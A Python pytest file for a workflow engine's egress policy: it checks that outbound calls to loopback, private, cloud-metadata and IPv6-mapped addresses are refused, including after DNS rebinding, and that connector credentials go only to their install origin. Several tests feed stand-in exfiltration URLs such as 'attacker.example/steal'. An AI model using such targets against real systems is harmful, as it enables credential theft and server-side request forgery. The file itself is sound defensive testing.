"""The engine's egress policy and the install-origin rule, called in-process against the local stub server."""

from __future__ import annotations

import socket

import pytest
from django.test import override_settings

from tests.topology.runtime.harness import Stub
from topology.runtime import egress
from topology.runtime.errors import TrashError
from topology.runtime.executor import execute
from topology.runtime.http import call_connector, call_worker
from topology.runtime.results import TRASHED
from topology.runtime.retry import RetryPolicy
from topology.runtime.spec import NodeSpec, RuntimeSpec, VersionSpec


@pytest.fixture(scope="module")
def stub():
    server = Stub()
    server.routes["/work"] = lambda call: (200, {"body": "{}", "headers": {"result-code": "0"}})
    server.routes["/api/orders"] = lambda call: (200, {"ok": True})
    yield server
    server.close()


def worker(url: str) -> None:
    call_worker(config={"url": url, "action": "/work"}, headers={}, body=b"{}")


@pytest.mark.parametrize(
    "address",
    [
        "127.0.0.1",
        "10.1.2.3",
        "172.16.0.1",
        "192.168.1.1",
        "169.254.169.254",
        "100.100.100.200",
        "224.0.0.1",
        "0.0.0.0",
    ],
)
def test_refusal_covers_loopback_private_link_local_metadata_multicast(address):
    with override_settings(FLOWYARD_EGRESS_ALLOW=[]), pytest.raises(egress.EgressRefused):
        egress.check("example", address)


@pytest.mark.parametrize("address", ["::1", "::ffff:127.0.0.1", "fd00:ec2::254", "fe80::1"])
def test_refusal_covers_ipv6_and_mapped_addresses(address):
    with override_settings(FLOWYARD_EGRESS_ALLOW=[]), pytest.raises(egress.EgressRefused):
        egress.check("example", address)


def test_public_addresses_pass():
    with override_settings(FLOWYARD_EGRESS_ALLOW=[]):
        egress.check("example.com", "93.184.215.14")
        egress.check("example.com", "2606:2800:21f:cb07:6820:80da:af6b:8b2c")


def test_worker_call_to_loopback_is_refused_before_any_request(stub):
    before = stub.count("/work")
    with override_settings(FLOWYARD_EGRESS_ALLOW=[]), pytest.raises(TrashError, match="egress refused") as caught:
        worker(stub.url)
    assert caught.value.kind == "egress"
    assert stub.count("/work") == before


def test_host_names_resolving_to_loopback_are_refused(stub):
    port = stub.server.server_address[1]
    with override_settings(FLOWYARD_EGRESS_ALLOW=[]), pytest.raises(TrashError, match=r"resolves to 127\.0\.0\.1"):
        worker(f"http://localhost:{port}")


def test_the_check_runs_on_the_resolved_address_connected_to(stub, monkeypatch):
    """DNS rebinding: a public-looking name that resolves to loopback is refused on the resolved address."""
    port = stub.server.server_address[1]
    real = socket.getaddrinfo

    def rebinding(host, *args, **kwargs):
        return real("127.0.0.1" if host == "public.example.com" else host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
    before = stub.count("/work")
    with override_settings(FLOWYARD_EGRESS_ALLOW=[]), pytest.raises(TrashError, match="egress refused"):
        worker(f"http://public.example.com:{port}")
    assert stub.count("/work") == before
    with override_settings(FLOWYARD_EGRESS_ALLOW=["127.0.0.0/8"]):
        worker(f"http://public.example.com:{port}")
    assert stub.count("/work") == before + 1


def test_allow_list_opens_cidrs_and_host_names(stub):
    port = stub.server.server_address[1]
    with override_settings(FLOWYARD_EGRESS_ALLOW=["127.0.0.1/32"]):
        worker(stub.url)
    with override_settings(FLOWYARD_EGRESS_ALLOW=["localhost"]):
        worker(f"http://localhost:{port}")
    assert stub.count("/work") >= 2


def _node(kind: str, config: dict, credentials: dict | None = None) -> tuple[RuntimeSpec, NodeSpec]:
    version = VersionSpec(id=1, number=1, topology_id=1, topology_name="t", tenant_id=1, enabled=True)
    retry = RetryPolicy.from_config({"attempts": 3, "interval": 0.1})
    node = NodeSpec(id=1, key="call", kind=kind, config=config, version=version, retry=retry, credentials=credentials)
    version.nodes["call"] = node
    return RuntimeSpec(versions={1: version}), node


def test_a_refused_call_is_trashed_at_once_never_retried(stub):
    runtime, node = _node("worker", {"url": stub.url, "action": "/work"})
    with override_settings(FLOWYARD_EGRESS_ALLOW=[]):
        outcome = execute(runtime, node, {"correlation-id": "c1"}, b"{}", "m1")
    assert outcome.code == TRASHED
    assert outcome.outputs == []
    assert outcome.trash is not None and "egress refused" in outcome.trash.reason
    assert "FLOWYARD_EGRESS_ALLOW" in outcome.message


# ------------------------------------------------------------------------- install origin


def creds(stub: Stub, **extra: str) -> dict[str, str]:
    return {"base_url": stub.url + "/api", "auth_type": "bearer", "token": "install-secret", **extra}


def test_connector_with_an_install_refuses_its_own_url(stub):
    with override_settings(FLOWYARD_EGRESS_ALLOW=["127.0.0.1/32"]), pytest.raises(TrashError, match="remove the"):
        call_connector(config={"url": "http://attacker.example/", "path": "/x"}, credentials=creds(stub), body=b"{}")


@pytest.mark.parametrize("path", ["http://attacker.example/steal", "//attacker.example/steal", "https:evil"])
def test_connector_with_an_install_refuses_absolute_paths(stub, path):
    with override_settings(FLOWYARD_EGRESS_ALLOW=["127.0.0.1/32"]), pytest.raises(TrashError, match="credentials"):
        call_connector(config={"path": path}, credentials=creds(stub), body=b"{}")


def test_connector_sends_credentials_to_the_install_origin(stub):
    with override_settings(FLOWYARD_EGRESS_ALLOW=["127.0.0.1/32"]):
        call_connector(config={"path": "orders", "method": "POST"}, credentials=creds(stub), body=b"{}")
    assert stub.calls[-1]["path"] == "/api/orders"
    assert stub.calls[-1]["headers"]["Authorization"] == "Bearer install-secret"


def test_api_key_header_name_from_the_install_form_is_used(stub):
    api_key = {"base_url": stub.url + "/api", "auth_type": "api_key", "header_name": "X-Shop-Key", "api_key": "k1"}
    with override_settings(FLOWYARD_EGRESS_ALLOW=["127.0.0.1/32"]):
        call_connector(config={"path": "/orders"}, credentials=api_key, body=b"{}")
    assert stub.calls[-1]["headers"].get("X-Shop-Key") == "k1"
    assert "X-API-Key" not in stub.calls[-1]["headers"]


def test_worker_bound_to_an_install_calls_its_base_url_with_its_credentials(stub):
    stub.routes["/api/connector/x/action"] = lambda call: (200, {"body": "{}", "headers": {"result-code": "0"}})
    config = {"action": "/connector/x/action"}
    with override_settings(FLOWYARD_EGRESS_ALLOW=["127.0.0.1/32"]):
        result = call_worker(config=config, headers={}, body=b"{}", credentials=creds(stub))
        assert result.code == 0
        assert stub.calls[-1]["path"] == "/api/connector/x/action"
        assert stub.calls[-1]["headers"]["Authorization"] == "Bearer install-secret"
        with pytest.raises(TrashError, match="remove the"):
            call_worker(config={**config, "url": "http://attacker.example/"}, headers={}, body=b"{}", credentials={})
        with pytest.raises(TrashError, match="credentials"):
            steal = {"action": "http://attacker.example/steal"}
            call_worker(config=steal, headers={}, body=b"{}", credentials=creds(stub))
        with pytest.raises(TrashError, match="no base URL"):
            call_worker(config=config, headers={}, body=b"{}", credentials={"auth_type": "none"})
